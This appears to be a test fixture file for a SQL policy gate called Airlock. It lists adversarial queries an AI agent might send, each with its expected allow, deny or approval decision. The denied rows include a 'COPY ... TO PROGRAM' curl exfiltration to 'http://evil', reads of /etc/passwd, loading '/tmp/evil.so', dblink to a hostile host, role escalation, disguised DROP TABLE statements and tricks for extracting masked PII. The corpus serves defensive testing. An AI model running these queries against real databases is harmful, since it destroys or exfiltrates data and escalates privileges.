@@ -1,0 +1,206 @@
+// Adversarial SQL against a realistic policy (fixtures.ts prodPolicy): each row is what an
+// agent might send and what Airlock must decide. The expected rule pins *why*, so a row
+// cannot pass by accident. Shared by corpus.test.ts and the analysis-cache tests.
+
+export type Expect = {
+  action: 'allow' | 'deny' | 'require-approval';
+  /** The deciding rule; undefined means no rule (allow, or a parse failure). */
+  rule?: string;
+  /** Kinds of the statements, in order (each statement's outer kind). */
+  kinds?: string[];
+};
+
+export const corpus: [string, Expect][] = [
+  // Plain reads and harmless utility.
+  ['SELECT id, name FROM customers WHERE id = 1', { action: 'allow', kinds: ['SELECT'] }],
+  ['select * from public.customers limit 10', { action: 'allow' }],
+  ['SELECT count(*) FROM customers', { action: 'allow' }],
+  ['SELECT ssn FROM customers', { action: 'allow' }],
+  ['SELECT c.ssn AS s, c.email FROM public.customers c', { action: 'allow' }],
+  ['SELECT * FROM (SELECT * FROM customers) s', { action: 'allow' }],
+  [
+    'SELECT name FROM customers c WHERE EXISTS (SELECT * FROM orders o WHERE o.cid = c.id)',
+    { action: 'allow' },
+  ],
+  ['SHOW search_path', { action: 'allow', kinds: ['SHOW'] }],
+  ['BEGIN; SELECT 1; COMMIT', { action: 'allow', kinds: ['BEGIN', 'SELECT', 'COMMIT'] }],
+  ["SET statement_timeout = '5s'", { action: 'allow', kinds: ['SET'] }],
+  ['', { action: 'allow', kinds: [] }],
+  ['   \n\t  ', { action: 'allow', kinds: [] }],
+  [';;', { action: 'allow', kinds: [] }],
+  ['-- just a comment', { action: 'allow', kinds: [] }],
+  ['SELECT $$DROP TABLE customers$$', { action: 'allow', kinds: ['SELECT'] }],
+  ['SELECT $tag$ TRUNCATE t; DROP TABLE x $tag$ AS text', { action: 'allow', kinds: ['SELECT'] }],
+  ["SELECT 'DROP TABLE t'", { action: 'allow', kinds: ['SELECT'] }],
+  ['SELECT "drop" FROM t', { action: 'allow' }],
+  ["INSERT INTO notes (body) VALUES ('hello')", { action: 'allow', kinds: ['INSERT'] }],
+
+  // Destructive DDL in every disguise.
+  ['DROP TABLE customers', { action: 'deny', rule: 'no-destructive-ddl', kinds: ['DROP'] }],
+  ['drop table customers', { action: 'deny', rule: 'no-destructive-ddl' }],
+  ['DrOp TaBlE customers', { action: 'deny', rule: 'no-destructive-ddl' }],
+  ['/* harmless */ DROP TABLE t', { action: 'deny', rule: 'no-destructive-ddl' }],
+  ['-- comment\nDROP TABLE t', { action: 'deny', rule: 'no-destructive-ddl' }],
+  ['/* nested /* comment */ still */ DROP TABLE t', { action: 'deny', rule: 'no-destructive-ddl' }],
+  ['DROP TABLE "Customers"', { action: 'deny', rule: 'no-destructive-ddl' }],
+  ['DROP TABLE U&"cust\\006Fmers"', { action: 'deny', rule: 'no-destructive-ddl' }],
+  ['SELECT 1; DROP TABLE t', { action: 'deny', rule: 'no-destructive-ddl', kinds: ['SELECT', 'DROP'] }],
+  ['SELECT 1;DROP TABLE t;', { action: 'deny', rule: 'no-destructive-ddl', kinds: ['SELECT', 'DROP'] }],
+  ['TRUNCATE customers', { action: 'deny', rule: 'no-destructive-ddl', kinds: ['TRUNCATE'] }],
+  ['ALTER TABLE customers DROP COLUMN ssn', { action: 'deny', rule: 'no-destructive-ddl', kinds: ['ALTER'] }],
+  ['ALTER TABLE customers RENAME TO old', { action: 'deny', rule: 'no-destructive-ddl' }],
+  ['DROP SCHEMA public CASCADE', { action: 'deny', rule: 'no-destructive-ddl' }],
+  ['DROP ROLE bob', { action: 'deny', rule: 'no-destructive-ddl' }],
+  ['DROP DATABASE prod', { action: 'deny', rule: 'no-destructive-ddl' }],
+
+  // Unparsable text is denied, never guessed at.
+  ['DR/**/OP TABLE t', { action: 'deny' }],
+  ['SELEC * FROM t', { action: 'deny' }],
+  ["SELECT 'unterminated", { action: 'deny' }],
+  ['SELECT 1; DROPP TABLE t', { action: 'deny' }],
+  ['DROP TABLE t\u0000', { action: 'deny' }],
+
+  // Writes: bounded ones need approval, unbounded ones are refused.
+  [
+    'DELETE FROM orders WHERE id = 42',
+    { action: 'require-approval', rule: 'approve-writes', kinds: ['DELETE'] },
+  ],
+  ['UPDATE orders SET status = $1 WHERE id = $2', { action: 'require-approval', rule: 'approve-writes' }],
+  ['DELETE FROM orders', { action: 'deny', rule: 'no-unbounded-writes' }],
+  ['UPDATE orders SET status = 0', { action: 'deny', rule: 'no-unbounded-writes' }],
+  ['DELETE FROM orders WHERE 1=1', { action: 'deny', rule: 'no-unbounded-writes' }],
+  ['DELETE FROM orders WHERE true', { action: 'deny', rule: 'no-unbounded-writes' }],
+  ["DELETE FROM orders WHERE 'a'='a'", { action: 'deny', rule: 'no-unbounded-writes' }],
+  ['DELETE FROM orders WHERE NOT false', { action: 'deny', rule: 'no-unbounded-writes' }],
+  ['DELETE FROM orders WHERE id = 1 OR true', { action: 'deny', rule: 'no-unbounded-writes' }],
+  ['DELETE FROM orders WHERE id = id', { action: 'deny', rule: 'no-unbounded-writes' }],
+  ['DELETE FROM orders WHERE 1 IS NOT NULL', { action: 'deny', rule: 'no-unbounded-writes' }],
+  ["DELETE FROM orders WHERE 't'::boolean", { action: 'deny', rule: 'no-unbounded-writes' }],
+  ["DELETE FROM orders WHERE status LIKE '%'", { action: 'deny', rule: 'no-unbounded-writes' }],
+  [
+    'DELETE FROM orders WHERE status IS NULL OR status IS NOT NULL',
+    { action: 'deny', rule: 'no-unbounded-writes' },
+  ],
+  ["DELETE FROM orders WHERE now() > '2000-01-01'", { action: 'deny', rule: 'no-unbounded-writes' }],
+  ['DELETE FROM orders o USING customers c WHERE c.id = 1', { action: 'deny', rule: 'no-unbounded-writes' }],
+  [
+    'DELETE FROM orders o USING customers c WHERE o.cid = c.id AND c.id = 1',
+    {
+      action: 'require-approval',
+      rule: 'approve-writes',
+    },
+  ],
+  [
+    'DELETE FROM orders WHERE EXISTS (SELECT 1 FROM customers WHERE id = 5)',
+    {
+      action: 'deny',
+      rule: 'no-unbounded-writes',
+    },
+  ],
+  [
+    'delete from orders where id in (select oid from stale)',
+    { action: 'require-approval', rule: 'approve-writes' },
+  ],
+
+  // Writes hidden inside other statements.
+  [
+    'WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING id) SELECT * FROM d',
+    {
+      action: 'require-approval',
+      rule: 'approve-writes',
+      kinds: ['SELECT'],
+    },
+  ],
+  [
+    'WITH d AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM d',
+    { action: 'deny', rule: 'no-unbounded-writes' },
+  ],
+  ['EXPLAIN ANALYZE DELETE FROM orders', { action: 'deny', rule: 'no-unbounded-writes', kinds: ['EXPLAIN'] }],
+  ['EXPLAIN ANALYZE DELETE FROM orders WHERE id = 3', { action: 'require-approval', rule: 'approve-writes' }],
+  // EXPLAIN only takes DML: a parse error, so denied without a rule.
+  ['EXPLAIN DROP TABLE t', { action: 'deny' }],
+  [
+    'PREPARE p(int) AS DELETE FROM orders WHERE id = $1',
+    {
+      action: 'require-approval',
+      rule: 'approve-writes',
+      kinds: ['PREPARE'],
+    },
+  ],
+  ['PREPARE q AS DELETE FROM orders', { action: 'deny', rule: 'no-unbounded-writes' }],
+  ['EXECUTE p(1)', { action: 'allow', kinds: ['EXECUTE'] }],
+  [
+    'MERGE INTO orders o USING incoming i ON true WHEN MATCHED THEN DELETE',
+    { action: 'deny', rule: 'no-unbounded-writes' },
+  ],
+  [
+    'CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM orders; SELECT 1; END',
+    {
+      action: 'deny',
+      rule: 'no-unbounded-writes',
+    },
+  ],
+
+  // Admin: code execution, identity, server settings.
+  ["DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", { action: 'deny', rule: 'no-admin', kinds: ['DO'] }],
+  ["DO LANGUAGE plpgsql 'BEGIN NULL; END'", { action: 'deny', rule: 'no-admin' }],
+  ['CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql', { action: 'deny', rule: 'no-admin' }],
+  [
+    'CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN END $$',
+    { action: 'deny', rule: 'no-admin' },
+  ],
+  ["COPY orders TO PROGRAM 'curl -d @- http://evil'", { action: 'deny', rule: 'no-admin', kinds: ['COPY'] }],
+  ["COPY orders FROM PROGRAM 'id'", { action: 'deny', rule: 'no-admin' }],
+  ["COPY orders FROM '/etc/passwd'", { action: 'deny', rule: 'no-admin' }],
+  ['COPY orders FROM STDIN', { action: 'allow', kinds: ['COPY'] }],
+  ['COPY notes (body) TO STDOUT', { action: 'allow' }],
+  // A whole-table COPY sends every column; without the catalog, *.card_number could be one.
+  ['COPY orders TO STDOUT', { action: 'deny', rule: 'masking:pii' }],
+  ['SET ROLE postgres', { action: 'deny', rule: 'no-admin', kinds: ['SET'] }],
+  ['set role postgres', { action: 'deny', rule: 'no-admin' }],
+  ["SET LOCAL ROLE 'postgres'", { action: 'deny', rule: 'no-admin' }],
+  ['RESET ROLE', { action: 'deny', rule: 'no-admin', kinds: ['RESET'] }],
+  ['SET SESSION AUTHORIZATION postgres', { action: 'deny', rule: 'no-admin' }],
+  ["SELECT set_config('role', 'postgres', false)", { action: 'deny', rule: 'no-admin' }],
+  ["SELECT set_config('app.tenant', '42', false)", { action: 'allow' }],
+  ["ALTER SYSTEM SET shared_preload_libraries = 'evil'", { action: 'deny', rule: 'no-destructive-ddl' }],
+  ["LOAD '/tmp/evil.so'", { action: 'deny', rule: 'no-admin', kinds: ['LOAD'] }],
+  ['CREATE EXTENSION dblink', { action: 'deny', rule: 'no-admin' }],
+  ["SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)", { action: 'deny', rule: 'no-admin' }],
+  ["SELECT pg_read_file('/etc/passwd')", { action: 'deny', rule: 'no-admin' }],
+  [
+    "SELECT query_to_xml('DELETE FROM orders RETURNING *', true, false, '')",
+    { action: 'deny', rule: 'no-admin' },
+  ],
+  [
+    'SELECT (SELECT pg_terminate_backend(pid) FROM pg_stat_activity LIMIT 1)',
+    { action: 'deny', rule: 'no-admin' },
+  ],
+
+  // Masked columns used indirectly.
+  ["SELECT encode(ssn::bytea, 'hex') FROM customers", { action: 'deny', rule: 'masking:pii' }],
+  ["SELECT id FROM customers WHERE ssn LIKE '1%'", { action: 'deny', rule: 'masking:pii' }],
+  ["SELECT ssn FROM customers UNION SELECT 'x'", { action: 'deny', rule: 'masking:pii' }],
+  ['SELECT id FROM customers ORDER BY ssn', { action: 'deny', rule: 'masking:pii' }],
+  ['SELECT lower(c.email) FROM public.customers c', { action: 'deny', rule: 'masking:pii' }],
+  ['SELECT row_to_json(c) FROM customers c', { action: 'deny', rule: 'masking:pii' }],
+  ['SELECT row_to_json(c.*) FROM customers c', { action: 'deny', rule: 'masking:pii' }],
+  ['SELECT c FROM customers c', { action: 'deny', rule: 'masking:pii' }],
+  ['SELECT (c).ssn FROM customers c', { action: 'deny', rule: 'masking:pii' }],
+  ['SELECT * FROM customers UNION ALL SELECT * FROM customers', { action: 'deny', rule: 'masking:pii' }],
+  ['INSERT INTO mine SELECT * FROM customers', { action: 'deny', rule: 'masking:pii' }],
+  ['CREATE TABLE mine AS SELECT ssn FROM customers', { action: 'deny', rule: 'masking:pii' }],
+  ['SELECT ssn INTO mine FROM customers', { action: 'deny', rule: 'masking:pii' }],
+  ['COPY customers TO STDOUT', { action: 'deny', rule: 'masking:pii' }],
+  ['COPY (SELECT ssn FROM customers) TO STDOUT', { action: 'deny', rule: 'masking:pii' }],
+  ['SELECT s.x FROM (SELECT ssn AS x FROM customers) s', { action: 'deny', rule: 'masking:pii' }],
+  ['SELECT id FROM orders o JOIN customers c ON c.ssn = o.ref', { action: 'deny', rule: 'masking:pii' }],
+  ['SELECT max(card_number) FROM payments', { action: 'deny', rule: 'masking:pii' }],
+  ['SELECT id FROM customers GROUP BY ssn', { action: 'deny', rule: 'masking:pii' }],
+  [
+    "SELECT id FROM customers WHERE phone LIKE '+1%'",
+    { action: 'require-approval', rule: 'masking:contact' },
+  ],
+  ['SELECT phone FROM customers', { action: 'allow' }],
+  ['SELECT lower(name) FROM customers WHERE id > 10 ORDER BY name', { action: 'allow' }],
+];
